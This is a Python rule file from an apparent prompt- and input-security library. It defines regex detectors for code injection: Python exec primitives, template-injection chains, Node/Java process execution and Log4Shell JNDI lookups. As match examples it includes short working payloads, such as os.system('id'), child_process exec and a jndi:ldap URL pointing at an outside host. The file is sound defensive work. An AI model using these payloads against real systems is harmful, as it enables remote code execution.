# ruff: noqa: RUF001  (multilingual vocabulary and look-alike characters are intended)
"""Code injection: Python, JavaScript/Java execution primitives and JNDI lookups (Log4Shell)."""

from __future__ import annotations

from typing import Tuple

from rasa_secure.core.injection.rules.base import (
    CODE_INJECTION,
    Rule,
    Strength,
    define,
)

RULES: Tuple[Rule, ...] = (
    define(
        "code.python",
        CODE_INJECTION,
        r"__import__\s*\(|\b(?:os|subprocess|pty|commands)\s*\.\s*(?:system|popen|run|call|"
        r"check_output|check_call|spawn\w*|exec\w*|getoutput|getstatusoutput)\s*\(|\bimport\s+"
        r"(?:os|sys|subprocess|socket|pty|requests|shutil|ctypes|pickle|marshal|urllib)\b|"
        r"\b(?:eval|exec|compile)\s*\(\s*(?:['\"]|compile|__|input|open|base64|bytes|chr|"
        r"request)|__(?:class|base|bases|subclasses|globals|builtins|mro|init|code|getattribute"
        r"|reduce)__|\bsocket\.socket\s*\(|\bpickle\.loads\s*\(|\bgetattr\s*\(\s*__",
        Strength.STRONG,
        "__import__ os subprocess pty commands import eval exec compile __class__ __base__ "
        "__bases__ __subclasses__ __globals__ __builtins__ __mro__ __init__ __code__ "
        "__getattribute__ __reduce__ socket pickle getattr __",
        "Python code execution primitives",
        examples=(
            "__import__('os').system('id')",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        ),
        counterexamples=(
            "My street is called Rue du Commerce; the number is 12-14",
            "Is it possible to execute the payment tomorrow instead of today?",
        ),
    ),
    define(
        "code.python_lambda_chain",
        CODE_INJECTION,
        r"\(\s*lambda\s+[\w\s,]{0,40}:.{0,200}lambda\b",
        Strength.BLOCKING,
        "lambda",
        "obfuscated nested-lambda Python",
        examples=("(lambda f: (lambda x: f(x))(1))(lambda y: y)",),
        counterexamples=("can you write a lambda function in Python?",),
    ),
    define(
        "code.js_node",
        CODE_INJECTION,
        r"\brequire\s*\(\s*['\"](?:child_process|fs|net|vm|http)['\"]|\bchild_process\b|"
        r"\bprocess\.(?:mainmodule|binding|env)\b|\bnew\s+function\s*\(|\bconstructor\s*\.\s*"
        r"constructor\s*\(|\bruntime\.getruntime\s*\(\s*\)\.exec|\bprocessbuilder\s*\(|"
        r"\bjava\.lang\.(?:runtime|processbuilder|system)\b|\bclass\.forname\s*\(",
        Strength.STRONG,
        "require child_process process new constructor runtime processbuilder java class",
        "JavaScript/Java code execution",
        examples=(
            "require('child_process').exec('whoami')",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        ),
        counterexamples=(
            "my p4ssw0rd r3537 link from 29 june exp1red, send a new one to 07700 900123",
            "Pretend I'm a new customer – what documents would I need?",
        ),
    ),
    define(
        "code.jndi",
        CODE_INJECTION,
        r"\$\{\s*(?:jndi|j\$\{|\$\{::-j\}|\$\{lower:j\}|\$\{upper:j\})|\$\{\s*jndi\s*:\s*(?:ldap"
        r"|rmi|dns|ldaps|iiop|http|corba|nds|nis)|\$\{(?:env|sys|java|lower|upper|date|ctx|main|"
        r"bundle|log4j|spring|k8s|docker|web|jvmrunargs|marker|sd|map):",
        Strength.CERTAIN,
        "${",
        "Log4Shell / JNDI lookup",
        examples=("${jndi:ldap://203.0.113.5/a}", "${jndi:ldap://x/a}"),
        counterexamples=("The invoice says ${amount} instead of the total, is that a bug?",),
    ),
)
